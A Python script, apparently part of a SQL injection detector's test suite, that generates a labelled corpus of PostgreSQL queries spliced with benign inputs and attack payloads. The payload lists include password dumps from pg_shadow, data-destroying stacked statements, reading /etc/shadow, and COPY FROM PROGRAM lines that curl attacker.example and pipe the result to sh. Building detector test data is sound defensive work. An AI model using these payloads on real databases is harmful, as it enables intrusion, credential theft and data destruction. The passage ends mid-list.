#!/usr/bin/env python3
"""Generate tests/data/generalization.jsonl.gz, a held-out-style corpus for sql-guard.

Purpose: measure how the detector generalises beyond the corpus it was tuned
on (tests/data/dev.jsonl.gz).  Built the same way as dev (see
/work/shared/sqli/README.md and tests/data/README.md) but from NEW application
templates (none of dev's `template` names or query shapes) and new payload
variants.

How rows are made
-----------------
* TEMPLATES are application queries with slots.  Each slot has a context:
  `str` (inside '...', the application quotes it), `estr` (inside E'...'),
  `dollar` (inside $body$...$body$), `ident` (inside "..."), `num` (pasted
  raw: ids, LIMIT/OFFSET, thresholds) or `raw_col` / `raw_dir` (ORDER BY
  column or direction pasted raw).
* Attack rows: a payload core (sqlmap technique families made concrete, plus
  hand-written PostgreSQL techniques and obfuscations) is wrapped in a
  sqlmap-style boundary (prefix value, closing sequence — usually the right
  one for the slot, sometimes a wrong one as sqlmap also tries — and a tail:
  a comment or a balancing suffix that reopens what the template closes) and
  spliced in WITHOUT escaping.
* Benign rows: tricky but legitimate inputs spliced WITH the right escaping
  ('' doubling for '...', backslash and quote doubling for E'...', ""
  doubling for identifiers); `escaped_attack_string` rows are attack strings
  escaped correctly; plus complex statements real applications run (ORM
  output, migrations, CTEs, window functions, COPY, $$ bodies, hints,
  trace comments, pg_dump headers, monitoring queries ...).
* Labels are decided by a small PostgreSQL lexer below, not by the intent of
  the payload: a row is `attack` only when the spliced input does not stay a
  single token of the kind the slot expects (a string literal strictly
  containing it, one number, one identifier / column [ASC|DESC] [NULLS ..]),
  i.e. it breaks out of its context and changes the statement's structure
  (or breaks its lexing).  Attack payloads that stay inside the literal are
  dropped; for `dollar` slots they become benign `escaped_attack_string`
  rows (dollar quoting with a tag absent from the input is correct quoting).

Deterministic: fixed seed, no dependency outside the Python 3.11 standard
library, sorted output.  Run from anywhere:

    python3 crates/sql-guard/tests/data/make_generalization.py

writes generalization.jsonl.gz next to this script (gzip mtime 0, so the file
is byte-identical between runs) and prints per-family row counts.
"""

import collections
import gzip
import io
import json
import os
import random
import re

SEED = 20261123
OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "generalization.jsonl.gz")

# ---------------------------------------------------------------------------
# A small PostgreSQL lexer (standard_conforming_strings = on), used only to
# label rows.  Token kinds: ws, comment, str, ident, qident, num, param, op,
# punct, error (unterminated string/comment/identifier).
# ---------------------------------------------------------------------------

WS = " \t\n\r\f"
OPCH = set("+-*/<>=~!@#%^&|`?")
IDSTART = re.compile(r"[A-Za-z_\u0080-\U0010ffff]")
IDCONT = re.compile(r"[A-Za-z0-9_$\u0080-\U0010ffff]")
DOLLAR = re.compile(r"\$([A-Za-z_\u0080-\U0010ffff][A-Za-z0-9_\u0080-\U0010ffff]*)?\$")
NUM = re.compile(r"(0[xX][0-9A-Fa-f_]+|0[oO][0-7_]+|0[bB][01_]+|(\d[\d_]*\.?\d*|\.\d+)([eE][+-]?\d+)?)")


def _quoted(sql, i, q, backslash):
    """End of a quoted token whose opening quote is at i (exclusive), or -1."""
    j = i + 1
    n = len(sql)
    while j < n:
        c = sql[j]
        if backslash and c == "\\":
            j += 2
            continue
        if c == q:
            if j + 1 < n and sql[j + 1] == q:
                j += 2
                continue
            return j + 1
        j += 1
    return -1


def lex(sql):
    toks = []
    i = 0
    n = len(sql)
    while i < n:
        c = sql[i]
        start = i
        if c in WS:
            while i < n and sql[i] in WS:
                i += 1
            toks.append(("ws", start, i))
            continue
        if sql.startswith("--", i):
            j = sql.find("\n", i)
            i = n if j < 0 else j
            toks.append(("comment", start, i))
            continue
        if sql.startswith("/*", i):
            depth = 0
            j = i
            while j < n:
                if sql.startswith("/*", j):
                    depth += 1
                    j += 2
                elif sql.startswith("*/", j):
                    depth -= 1
                    j += 2
                    if depth == 0:
                        break
                else:
                    j += 1
            if depth != 0:
                toks.append(("error", start, n))
                return toks
            i = j
            toks.append(("comment", start, i))
            continue
        prev_word = start > 0 and IDCONT.match(sql[start - 1]) is not None
        if not prev_word and c in "eE" and i + 1 < n and sql[i + 1] == "'":
            e = _quoted(sql, i + 1, "'", True)
            if e < 0:
                toks.append(("error", start, n))
                return toks
            i = e
            toks.append(("str", start, i))
            continue
        if not prev_word and c in "uU" and sql.startswith("&'", i + 1):
            e = _quoted(sql, i + 2, "'", False)
            if e < 0:
                toks.append(("error", start, n))
                return toks
            i = e
            toks.append(("str", start, i))
            continue
        if not prev_word and c in "uU" and sql.startswith('&"', i + 1):
            e = _quoted(sql, i + 2, '"', False)
            if e < 0:
                toks.append(("error", start, n))
                return toks
            i = e
            toks.append(("qident", start, i))
            continue
        if not prev_word and c in "bBxXnN" and i + 1 < n and sql[i + 1] == "'":
            e = _quoted(sql, i + 1, "'", False)
            if e < 0:
                toks.append(("error", start, n))
                return toks
            i = e
            toks.append(("str", start, i))
            continue
        if c == "'":
            e = _quoted(sql, i, "'", False)
            if e < 0:
                toks.append(("error", start, n))
                return toks
            i = e
            toks.append(("str", start, i))
            continue
        if c == '"':
            e = _quoted(sql, i, '"', False)
            if e < 0:
                toks.append(("error", start, n))
                return toks
            i = e
            toks.append(("qident", start, i))
            continue
        if c == "$":
            if i + 1 < n and sql[i + 1].isdigit():
                j = i + 1
                while j < n and sql[j].isdigit():
                    j += 1
                i = j
                toks.append(("param", start, i))
                continue
            m = DOLLAR.match(sql, i)
            if m:
                tag = m.group(0)
                e = sql.find(tag, m.end())
                if e < 0:
                    toks.append(("error", start, n))
                    return toks
                i = e + len(tag)
                toks.append(("str", start, i))
                continue
            toks.append(("op", start, i + 1))
            i += 1
            continue
        if c.isdigit() or (c == "." and i + 1 < n and sql[i + 1].isdigit()):
            m = NUM.match(sql, i)
            i = m.end()
            toks.append(("num", start, i))
            continue
        if IDSTART.match(c):
            j = i + 1
            while j < n and IDCONT.match(sql[j]):
                j += 1
            i = j
            toks.append(("ident", start, i))
            continue
        if c in OPCH:
            j = i
            while j < n and sql[j] in OPCH and not sql.startswith("--", j) and not sql.startswith("/*", j):
                j += 1
            if j == i:
                j = i + 1
            i = j
            toks.append(("op", start, i))
            continue
        if c == ":" and sql.startswith("::", i):
            i += 2
            toks.append(("op", start, i))
            continue
        toks.append(("punct", start, i + 1))
        i += 1
    return toks


def contained(sql, s, e, ctx):
    """True when sql[s:e] (the spliced input) stays what the slot expects."""
    toks = lex(sql)
    if any(t[0] == "error" for t in toks):
        return False
    if ctx in ("str", "estr", "dollar", "ident"):
        kind = "qident" if ctx == "ident" else "str"
        for k, a, b in toks:
            if a < s < b or a < e < b or (a <= s and e <= b):
                return k == kind and a < s and e < b
        return False
    inner = [(k, a, b) for k, a, b in toks if a < e and b > s]
    if any(a < s or b > e for _, a, b in inner):
        return False
    inner = [t for t in inner if t[0] != "ws"]
    words = [sql[a:b] for _, a, b in inner]
    kinds = [k for k, _, _ in inner]
    if ctx == "num":
        if kinds and kinds[0] == "op" and words[0] in ("-", "+"):
            kinds = kinds[1:]
        return kinds == ["num"]
    if ctx in ("raw_col", "raw_dir"):
        up = [w.upper() for w in words]
        i = 0
        if ctx == "raw_col":
            if not kinds or kinds[0] not in ("ident", "qident"):
                return False
            i = 1
            if up[i:i + 1] == ["."] and kinds[i + 1:i + 2] in (["ident"], ["qident"]):
                i += 2
        if up[i:i + 1] in (["ASC"], ["DESC"]):
            i += 1
        if up[i:i + 1] == ["NULLS"] and up[i + 1:i + 2] in (["FIRST"], ["LAST"]):
            i += 2
        return i == len(up) and (ctx == "raw_col" or i > 0)
    raise ValueError(ctx)


# ---------------------------------------------------------------------------
# Templates: «name» marks a slot.  slots: name -> (ctx, closer, benign kind).
# `closer` is the text that ends the slot's context correctly.
# ---------------------------------------------------------------------------

T = collections.namedtuple("T", "name sql slots")

TEMPLATES = [
    T("g01_tenant_user_lookup",
      "SELECT id, email, display_name FROM tenant_users WHERE tenant_id = «tenant» AND email = '«email»' AND deleted_at IS NULL",
      {"tenant": ("num", "", "int"), "email": ("str", "'", "email")}),
    T("g02_docs_ilike_escape",
      "SELECT id, title FROM documents WHERE title ILIKE '%«q»%' ESCAPE '!' ORDER BY updated_at DESC LIMIT 30",
      {"q": ("str", "%'", "word")}),
    T("g03_jsonb_field_eq",
      "SELECT id, total FROM orders WHERE meta->>'channel' = '«channel»' AND meta @> '{\"paid\": true}' ORDER BY id",
      {"channel": ("str", "'", "word")}),
    T("g04_jsonb_tags_contains",
      "SELECT id, doc->'name' AS name FROM profiles WHERE doc @> '{\"tags\": [\"«tag»\"]}'::jsonb LIMIT 50",
      {"tag": ("str", "'", "word")}),
    T("g05_jsonb_key_exists",
      "SELECT count(*) FROM profiles WHERE tenant_id = 4 AND doc ? '«key»'",
      {"key": ("str", "'", "word")}),
    T("g06_array_any_num",
      "SELECT id, name FROM products WHERE «cat» = ANY(category_ids) AND active ORDER BY name",
      {"cat": ("num", "", "int")}),
    T("g07_array_overlap_str",
      "SELECT id, title FROM posts WHERE tags && ARRAY['«tag»', 'featured']::text[] ORDER BY id DESC",
      {"tag": ("str", "'", "word")}),
    T("g08_window_rank_report",
      "SELECT region, salesperson, amount, rank() OVER (PARTITION BY region ORDER BY amount DESC) AS r FROM sales WHERE fiscal_year = «year»",
      {"year": ("num", "", "year")}),
    T("g09_upsert_pref",
      "INSERT INTO user_prefs (user_id, pref_key, pref_value) VALUES («uid», '«key»', '«val»') ON CONFLICT (user_id, pref_key) DO UPDATE SET pref_value = EXCLUDED.pref_value, updated_at = now()",
      {"uid": ("num", "", "int"), "key": ("str", "'", "word"), "val": ("str", "'", "text")}),
    T("g10_update_from_join",
      "UPDATE orders o SET status = '«status»' FROM customers c WHERE c.id = o.customer_id AND c.external_ref = '«ref»'",
      {"status": ("str", "'", "word"), "ref": ("str", "'", "code")}),
    T("g11_delete_using",
      "DELETE FROM order_items oi USING orders o WHERE oi.order_id = o.id AND o.id = «oid» AND o.status = 'draft'",
      {"oid": ("num", "", "int")}),
    T("g12_cte_keyset_page",
      "WITH page AS (SELECT id, created_at, body FROM messages WHERE thread_id = «thread» AND created_at < '«before»' ORDER BY created_at DESC LIMIT 50) SELECT * FROM page ORDER BY created_at",
      {"thread": ("num", "", "int"), "before": ("str", "'", "timestamp")}),
    T("g13_catalog_order_col",
      "SELECT id, sku, price FROM catalog WHERE in_stock ORDER BY «col» LIMIT 25",
      {"col": ("raw_col", "", "col")}),
    T("g14_tickets_limit_offset",
      "SELECT id, subject FROM tickets WHERE queue = 'support' ORDER BY id LIMIT «lim» OFFSET «off»",
      {"lim": ("num", "", "small"), "off": ("num", "", "int")}),
    T("g15_invoice_bigint_cast",
      "SELECT * FROM invoices WHERE invoice_no = «no»::bigint",
      {"no": ("num", "", "int")}),
    T("g16_signups_between",
      "SELECT date_trunc('day', created_at) AS d, count(*) FROM signups WHERE created_at BETWEEN '«from»' AND '«to»' GROUP BY 1 ORDER BY 1",
      {"from": ("str", "'", "date"), "to": ("str", "'", "date")}),
    T("g17_jobs_interval",
      "SELECT id, state FROM jobs WHERE finished_at > now() - interval '«ago»' AND state <> 'ok'",
      {"ago": ("str", "'", "interval")}),
    T("g18_jobs_days_mult",
      "SELECT id FROM jobs WHERE created_at < now() - («days» * interval '1 day')",
      {"days": ("num", "", "small")}),
    T("g19_kb_phrase_search",
      "SELECT id, title FROM kb_articles WHERE to_tsvector('english', title || ' ' || body) @@ phraseto_tsquery('english', '«q»') LIMIT 10",
      {"q": ("str", "')", "text")}),
    T("g20_lateral_latest_orders",
      "SELECT c.id, o.total FROM customers c CROSS JOIN LATERAL (SELECT total FROM orders WHERE customer_id = c.id ORDER BY placed_at DESC LIMIT «n») o WHERE c.country = '«country»'",
      {"n": ("num", "", "small"), "country": ("str", "'", "country")}),
    T("g21_member_coalesce_lower",
      "SELECT id, name FROM members WHERE lower(coalesce(nickname, name)) = lower('«name»') AND club_id = 12",
      {"name": ("str", "')", "name")}),
    T("g22_shipments_in_list",
      "SELECT id, tracking_no FROM shipments WHERE carrier IN ('«carrier»', 'ups') AND shipped_on >= current_date - 7",
      {"carrier": ("str", "'", "word")}),
    T("g23_snippet_dollar",
      "SELECT id FROM snippets WHERE body = $body$«body»$body$",
      {"body": ("dollar", "$body$", "text")}),
    T("g24_logs_estring_like",
      "SELECT id, message FROM app_logs WHERE message LIKE E'%«q»%' ORDER BY id DESC LIMIT 100",
      {"q": ("estr", "%'", "text")}),
    T("g25_report_cache_column",
      "SELECT \"«col»\" FROM report_cache WHERE report_id = 9",
      {"col": ("ident", "\"", "colname")}),
    T("g26_having_min_count",
      "SELECT author_id, count(*) FROM comments GROUP BY author_id HAVING count(*) >= «min» ORDER BY 2 DESC",
      {"min": ("num", "", "small")}),
    T("g27_case_band",
      "SELECT id, CASE WHEN score > «cut» THEN 'high' ELSE 'low' END AS band FROM reviews WHERE product_id = 88",
      {"cut": ("num", "", "decimal")}),
    T("g28_archive_insert_select",
      "INSERT INTO archive_events (id, kind, payload) SELECT id, kind, payload FROM events WHERE kind = '«kind»' AND created_at < now() - interval '90 days'",
      {"kind": ("str", "'", "word")}),
    T("g29_api_key_rename",
      "UPDATE api_keys SET label = '«label»' WHERE id = «id» AND owner_id = 3 RETURNING id, label",
      {"label": ("str", "'", "text"), "id": ("num", "", "int")}),
    T("g30_payments_to_date",
      "SELECT id, amount FROM payments WHERE paid_on = to_date('«day»', 'YYYY-MM-DD') AND merchant_id = 17",
      {"day": ("str", "'", "date")}),
    T("g31_books_sort_dir",
      "SELECT id, title FROM books WHERE shelf_id = 4 ORDER BY published_at «dir», id",
      {"dir": ("raw_dir", "", "dir")}),
    T("g32_hosts_regex",
      "SELECT id, hostname FROM hosts WHERE hostname ~* '«pattern»' ORDER BY hostname",
      {"pattern": ("str", "'", "regex")}),
    T("g33_logins_inet_exists",
      "SELECT u.id FROM users u WHERE EXISTS (SELECT 1 FROM logins l WHERE l.user_id = u.id AND l.ip = '«ip»'::inet)",
      {"ip": ("str", "'", "ip")}),
    T("g34_rls_set_config",
      "SELECT set_config('app.current_tenant', '«tenant»', true)",
      {"tenant": ("str", "'", "code")}),
    T("g35_merge_stock",
      "MERGE INTO stock s USING (VALUES («sku», «qty»)) AS v(sku_id, qty) ON s.sku_id = v.sku_id WHEN MATCHED THEN UPDATE SET qty = s.qty + v.qty WHEN NOT MATCHED THEN INSERT (sku_id, qty) VALUES (v.sku_id, v.qty)",
      {"sku": ("num", "", "int"), "qty": ("num", "", "small")}),
    T("g36_phone_prefix_param",
      "SELECT id, name FROM contacts WHERE phone LIKE '«prefix»%' AND owner_id = $1 ORDER BY name",
      {"prefix": ("str", "%'", "phone")}),
    T("g37_geo_nearby_num",
      "SELECT id, name FROM venues WHERE earth_box(ll_to_earth(«lat», 13.4), 5000) @> ll_to_earth(lat, lng)",
      {"lat": ("num", "", "decimal")}),
    T("g38_audit_window_lag",
      "SELECT actor, at, at - lag(at) OVER (PARTITION BY actor ORDER BY at) AS gap FROM audit_trail WHERE actor = '«actor»' ORDER BY at",
      {"actor": ("str", "'", "name")}),
]

# ---------------------------------------------------------------------------
# Benign inputs
# ---------------------------------------------------------------------------

BENIGN = {
    "input_plain": ["blue widget", "spring sale", "harbour", "quarterly report", "mobile", "email", "referral",
                    "paid", "shipped", "draft", "kettle", "dark mode", "newsletter", "pending review", "Berlin",
                    "weekly", "green tea", "notes", "api", "backend"],
    "input_apostrophe_names": ["O'Brien", "D'Angelo", "N'Golo", "Dell'Acqua", "O'Neil-Smith", "d'Artagnan",
                               "L'Oréal", "Guns N' Roses", "rock 'n' roll", "it's fine", "'quoted'", "''",
                               "Ke'ala", "Mc'Kay", "ma'am", "y'all'd've"],
    "input_sql_words": ["Union Station", "Drop Zone", "Select Comfort", "Order by price", "or else",
                        "Insert coin", "Delete me later", "sleep well", "Exec summary", "grant writing",
                        "truncate the list", "union jack", "waitfor it", "select all that apply",
                        "Table for two", "Having fun", "CASE study", "null and void", "and/or", "Benchmark 2024"],
    "input_url_email": ["https://example.com/a--b?x=1&y=2", "http://host.example/--/path#frag", "user--tag@mail.example",
                        "o'reilly@example.org", "ftp://files.example/a;b", "mailto:ops@example.net?subject=hi--there",
                        "https://x.example/?q=1%27%20or%201=1", "a.b+c@d.example", "/var/log/app--2024.log",
                        "C:\\Users\\me\\file.txt"],
    "input_json_text": ['{"a": 1, "b": [true, null]}', '{"comment": "-- not sql"}', '{"q": "it\'s"}',
                        '[{"op": "or", "args": ["1=1"]}]', '{"sql": "select * from t; drop"}', '{"k": "/* x */"}',
                        '{"$where": "1==1"}', '{"path": "$.a[*] ? (@ > 1)"}'],
    "input_regex": ["^[a-z0-9._%+-]+@[a-z]+\\.[a-z]{2,}$", "(foo|bar)--baz", "\\d{3}-\\d{4}", "^web-[0-9]+$",
                    ".*(prod|staging).*", "[[:alpha:]]+", "a{2,3}?b*", "^(?!tmp).*$", "x\\'y", "\\s+--\\s+"],
    "input_code_snippet": ["SELECT * FROM t WHERE a = 'b'", "-- comment", "/* not a comment */", "$$ body $$",
                           "DROP TABLE IF EXISTS tmp;", "pg_sleep(5)", "1; 2; 3", "a' || 'b", "E'\\n'",
                           "UNION ALL SELECT", "x = 1 OR y = 2", "WHERE 1=1", "'; --", "\" OR \"\"=\""],
    "input_unicode": ["Zoë", "東京都", "Ωmega", "naïve café", "🙂 thanks", "مرحبا", "O’Brien", "ʼokina",
                      "＇ fullwidth", "Straße", "İstanbul", "ﬁligree", "e\u0301clair", "ℌ𝔢𝔩𝔩𝔬"],
    "input_whitespace": ["  padded  ", "tab\there", "line\nbreak", "crlf\r\nline", " ", "trailing ", "a\fb"],
}

ESCAPED_ATTACK_EXTRA = [
    "Robert'); DROP TABLE students;--", "' OR '1'='1", "admin'--", "1' AND SLEEP(5)#", "' UNION SELECT NULL--",
    "x'; COPY t FROM PROGRAM 'id'--", "'||pg_sleep(5)||'", "\\'; DROP TABLE x--", "$$; DROP TABLE x; $$",
]


def benign_value(kind, rng):
    if kind == "int":
        return str(rng.choice([rng.randint(1, 999), rng.randint(1000, 9999999), rng.randint(1, 50)]))
    if kind == "small":
        return str(rng.randint(1, 200))
    if kind == "year":
        return str(rng.randint(2015, 2026))
    if kind == "decimal":
        return rng.choice([str(rng.randint(1, 99)), "%d.%d" % (rng.randint(0, 99), rng.randint(0, 99)), "-%d.5" % rng.randint(1, 9)])
    if kind == "email":
        return rng.choice(["ana@example.com", "o'hara@example.org", "j.doe+news@mail.example", "x@y.io", "li.wei@corp.example"])
    if kind == "word":
        return rng.choice(BENIGN["input_plain"])
    if kind == "text":
        return rng.choice(BENIGN["input_plain"] + BENIGN["input_apostrophe_names"][:5])
    if kind == "code":
        return rng.choice(["acme", "ACME-42", "t_%04d" % rng.randint(0, 9999), "tenant-%d" % rng.randint(1, 99), "eu-west"])
    if kind == "timestamp":
        return "2025-%02d-%02d %02d:%02d:00+00" % (rng.randint(1, 12), rng.randint(1, 28), rng.randint(0, 23), rng.randint(0, 59))
    if kind == "date":
        return "20%02d-%02d-%02d" % (rng.randint(19, 26), rng.randint(1, 12), rng.randint(1, 28))
    if kind == "interval":
        return rng.choice(["%d days" % rng.randint(1, 30), "%d hours" % rng.randint(1, 48), "1 week", "90 minutes", "P1DT2H"])
    if kind == "country":
        return rng.choice(["DE", "FR", "Côte d'Ivoire", "US", "Türkiye"])
    if kind == "name":
        return rng.choice(["alice", "Bob", "O'Connor", "José", "mary-ann"])
    if kind == "regex":
        return rng.choice(BENIGN["input_regex"])
    if kind == "ip":
        return rng.choice(["10.0.0.%d" % rng.randint(1, 254), "2001:db8::%x" % rng.randint(1, 4095), "192.168.1.0/24"])
    if kind == "phone":
        return rng.choice(["+49", "+1 (555)", "030-", "0800"])
    if kind == "col":
        return rng.choice(["price", "sku", "id DESC", "price ASC NULLS LAST", "catalog.price", "\"updated at\"", "sku desc"])
    if kind == "dir":
        return rng.choice(["ASC", "DESC", "desc", "DESC NULLS LAST", "ASC NULLS FIRST"])
    if kind == "colname":
        return rng.choice(["revenue", "Net Revenue", "q1_2025", "total (EUR)", "avg-latency"])
    raise ValueError(kind)


def escape(value, ctx):
    if ctx == "str":
        return value.replace("'", "''")
    if ctx == "estr":
        return value.replace("\\", "\\\\").replace("'", "''")
    if ctx == "ident":
        return value.replace('"', '""')
    return value


def fill(t, slot, value, rng, escape_it):
    """Splice value into slot (other slots get escaped benign values); return sql, span."""
    sql = t.sql
    out = []
    pos = 0
    span = None
    for m in re.finditer("«(\\w+)»", sql):
        out.append(sql[pos:m.start()])
        name = m.group(1)
        ctx, _, kind = t.slots[name]
        if name == slot:
            v = escape(value, ctx) if escape_it else value
            start = sum(len(x) for x in out)
            span = (start, start + len(v))
        else:
            v = escape(benign_value(kind, rng), ctx)
        out.append(v)
        pos = m.end()
    out.append(sql[pos:])
    return "".join(out), span


# ---------------------------------------------------------------------------
# Attack payload cores.  Each is (variant id, text).  Text follows the closer;
# a leading space is added by the boundary.
# ---------------------------------------------------------------------------

CORES = {
    "boolean_blind": [
        ("and_num_eq", "AND 4821=4821"),
        ("and_num_ne", "AND 4821=4822"),
        ("or_not", "OR NOT 6=7"),
        ("and_concat_eq", "AND 'x'||'y'='xy'"),
        ("and_sub_eq", "AND (SELECT 7)=7"),
        ("and_case_eq", "AND (SELECT CASE WHEN (5512=5512) THEN 1 ELSE 0 END)=1"),
        ("and_ascii_substr", "AND ascii(substr(current_user,1,1))>100"),
        ("and_length_db", "AND length(current_database())>3"),
        ("and_count_user", "AND (SELECT count(*) FROM pg_user)>0"),
        ("and_exists_super", "AND EXISTS(SELECT 1 FROM pg_roles WHERE rolsuper)"),
        ("and_in_sub", "AND 5 IN (SELECT 5)"),
        ("and_substring_from", "AND substring(version() from 1 for 10)='PostgreSQL'"),
        ("and_position", "AND position('a' in current_user)>0"),
        ("and_ascii_pw", "AND ascii(substring((SELECT rolpassword FROM pg_authid WHERE rolname='postgres') FROM 4 FOR 1))>52"),
        ("and_like", "AND current_user LIKE 'post%'"),
        ("and_case_bool", "AND (CASE WHEN 3=3 THEN true ELSE false END)"),
        ("and_bool_cast", "AND 1::boolean"),
        ("and_starts_with", "AND starts_with(current_setting('server_version'), '1')"),
        ("and_get_byte", "AND get_byte(convert_to(current_user,'UTF8'),0)=112"),
        ("and_left", "AND left(current_database(),1)='a'"),
    ],
    "tautology": [
        ("or_2eq2", "OR 2=2"),
        ("or_str", "OR 'q'='q'"),
        ("or_gt", "OR 3>2"),
        ("or_true", "OR true"),
        ("or_empty_str", "OR ''=''"),
        ("or_lt", "OR 1<2"),
        ("or_id_gt", "OR id>0"),
        ("or_in_list", "OR 'x' IN ('x','y')"),
        ("or_ne", "OR 5<>6"),
        ("or_not_eq", "OR NOT 0=1"),
        ("or_cast_eq", "OR 1=1::int"),
        ("or_like_any", "OR 'abc' LIKE '%'"),
        ("or_is_null", "OR NULL IS NULL"),
        ("or_between", "OR 4 BETWEEN 2 AND 8"),
        ("or_paren", "OR (1)=(1)"),
        ("or_exists", "OR EXISTS(SELECT 1)"),
        ("or_double_eq", "OR 7 = 7"),
        ("or_bool_str", "OR 't'::boolean"),
    ],
    "error_based": [
        ("cast_version_int", "AND 7=CAST((SELECT version()) AS int)"),
        ("user_coerce_int", "AND 1=(SELECT current_user)::int"),
        ("setting_numeric", "AND CAST(current_setting('data_directory') AS numeric)=1"),
        ("xmlparse", "AND xmlparse(document (SELECT usename FROM pg_user LIMIT 1)) IS NOT NULL"),
        ("query_to_xml", "AND (query_to_xml('select * from pg_user',true,true,''))::text::int=1"),
        ("div_zero_sub", "AND 1=1/(SELECT 0)"),
        ("multi_row", "AND (SELECT 1 FROM generate_series(1,2))=1"),
        ("to_number", "AND 1=(SELECT to_number(version(),'999'))"),
        ("concat_db_int", "AND 1::int=('x'||current_database())::int"),
        ("chr_table_int", "AND CAST(chr(58)||(SELECT table_name FROM information_schema.tables LIMIT 1) AS int)>0"),
        ("sqlmap_pg_error", "AND 6331=CAST((CHR(113)||CHR(122)||CHR(118)||CHR(106)||CHR(113))||(SELECT (CASE WHEN (6331=6331) THEN 1 ELSE 0 END))::text||(CHR(113)||CHR(98)||CHR(106)||CHR(122)||CHR(113)) AS NUMERIC)"),
        ("xml_extract", "AND (xpath('/a', ('<a>'||current_user||'</a>')::xml))[1]::text::int=1"),
        ("json_cast", "AND (('{\"a\":\"'||version()||'\"}')::json->>'a')::int=1"),
        ("regclass", "AND (SELECT current_user)::regclass IS NOT NULL"),
    ],
    "time_based": [
        ("and_sleep_isnull", "AND pg_sleep(5) IS NULL"),
        ("and_sub_sleep_notnull", "AND (SELECT 1 FROM pg_sleep(7)) IS NOT NULL"),
        ("or_case_sleep", "OR 1=(SELECT CASE WHEN (1=1) THEN (SELECT 1 FROM pg_sleep(5)) ELSE 1 END)"),
        ("heavy_series", "AND 6=(SELECT count(*) FROM generate_series(1,50000000))"),
        ("heavy_cross", "AND (SELECT count(*) FROM generate_series(1,30000000) a, generate_series(1,10) b)>0"),
        ("sleep_for", "AND pg_sleep_for('3 seconds') IS NULL"),
        ("derived_sleep", "AND (SELECT 1 FROM (SELECT pg_sleep(5)) x)=1"),
        ("heavy_catalog", "AND 7=(SELECT count(*) FROM pg_class a, pg_class b, pg_class c)"),
        ("case_sleep_substr", "AND 3=(CASE WHEN (ascii(substr(current_user,1,1))>80) THEN (SELECT 3 FROM pg_sleep(4)) ELSE 3 END)"),
        ("sleep_in_where", "AND EXISTS(SELECT 1 WHERE pg_sleep(6) IS NOT NULL)"),
        ("sleep_cast_text", "AND pg_sleep(5)::text=''"),
        ("sleep_until", "AND pg_sleep_until(clock_timestamp() + interval '4 s') IS NULL"),
    ],
    "union_based": [
        ("null1", "UNION SELECT NULL"),
        ("null3_all", "UNION ALL SELECT NULL,NULL,NULL"),
        ("typed_nulls", "UNION SELECT NULL::text, NULL::int"),
        ("user_cols", "UNION ALL SELECT 1,current_user,NULL"),
        ("shadow", "UNION SELECT usename, passwd FROM pg_shadow"),
        ("info_tables", "UNION SELECT table_name::text, NULL FROM information_schema.tables"),
        ("agg_db", "UNION ALL SELECT (SELECT string_agg(datname, ',') FROM pg_database), NULL"),
        ("version", "UNION SELECT version(), NULL"),
        ("setting", "UNION SELECT CAST(current_setting('server_version') AS text), 1"),
        ("sqlmap_marker", "UNION ALL SELECT NULL,(CHR(113)||CHR(107)||CHR(112)||CHR(120)||CHR(113))||(CHR(65)||CHR(66))||(CHR(113)||CHR(98)||CHR(122)||CHR(106)||CHR(113)),NULL"),
        ("paren_arm", "UNION (SELECT rolname, rolpassword FROM pg_authid)"),
        ("distinct_catalog", "UNION DISTINCT SELECT relname, relkind::text FROM pg_class"),
        ("values", "UNION ALL VALUES (1, current_user)"),
        ("intersect_probe", "INTERSECT SELECT NULL, NULL"),
    ],
    "order_by_probe": [
        ("order_1", "ORDER BY 1"),
        ("order_9", "ORDER BY 9"),
        ("group_having", "GROUP BY 1 HAVING 1=1"),
        ("order_case", "ORDER BY (CASE WHEN (1=1) THEN 1 ELSE 2 END)"),
        ("order_sub", "ORDER BY (SELECT 1 FROM pg_sleep(3))"),
    ],
    "stacked": [
        ("drop_audit", "; DROP TABLE audit_log"),
        ("truncate", "; TRUNCATE users CASCADE"),
        ("insert_admin", "; INSERT INTO admins (user_id) VALUES (99)"),
        ("update_balance", "; UPDATE accounts SET balance = 1e9 WHERE id = 7"),
        ("delete_sessions", "; DELETE FROM sessions"),
        ("grant_all", "; GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC"),
        ("create_user", "; CREATE USER zq WITH SUPERUSER PASSWORD 'zq'"),
        ("alter_role", "; ALTER ROLE app_rw SUPERUSER"),
        ("set_role", "; SET ROLE postgres"),
        ("commit_drop_schema", "; COMMIT; DROP SCHEMA public CASCADE"),
        ("disable_logging", "; SELECT set_config('log_statement','none',false)"),
        ("lock_table", "; LOCK TABLE users IN ACCESS EXCLUSIVE MODE"),
        ("alter_system", "; ALTER SYSTEM SET log_min_messages = 'panic'"),
        ("reload_conf", "; SELECT pg_reload_conf()"),
        ("prepare_exec", "; PREPARE p AS SELECT passwd FROM pg_shadow; EXECUTE p"),
        ("select_sleep", "; SELECT pg_sleep(8)"),
        ("cancel_backends", "; SELECT pg_cancel_backend(pid) FROM pg_stat_activity"),
        ("rename_table", "; ALTER TABLE users RENAME TO users_old"),
        ("create_trigger_fn", "; CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $f$BEGIN RETURN NULL; END$f$"),
        ("vacuum_full", "; VACUUM FULL"),
    ],
    "pg_specific_oob": [
        ("copy_to_program_dns", "; COPY (SELECT '') TO PROGRAM 'nslookup x.attacker.example'"),
        ("copy_from_program_curl", "; CREATE TEMP TABLE o(t text); COPY o FROM PROGRAM 'curl -s http://attacker.example/p | sh'"),
        ("lo_import_shadow", "; SELECT lo_import('/etc/shadow')"),
        ("lo_export", "; SELECT lo_export(16400, '/tmp/x.so')"),
        ("lo_from_bytea", "AND lo_from_bytea(0, 'x') > 0"),
        ("read_conf_union", "UNION SELECT pg_read_file('postgresql.conf'), NULL"),
        ("read_binary", "AND pg_read_binary_file('/etc/passwd') IS NOT NULL"),
        ("ls_dir", "AND (SELECT pg_ls_dir('.') LIMIT 1) IS NOT NULL"),
        ("dblink_exec", "; SELECT dblink_exec('host=evil.example dbname=x', 'SELECT 1')"),
        ("dblink_select", "AND (SELECT count(*) FROM dblink('host=evil.example', 'SELECT 1') AS t(a int))>0"),
        ("is_superuser", "AND current_setting('is_superuser')='on'"),
        ("data_dir_like", "AND current_setting('data_directory') LIKE '/%'"),
        ("stat_file", "AND (pg_stat_file('pg_hba.conf')).size > 0"),
        ("create_ext", "; CREATE EXTENSION IF NOT EXISTS dblink"),
        ("archive_cmd", "; ALTER SYSTEM SET archive_command = 'curl http://attacker.example/$(whoami)'"),
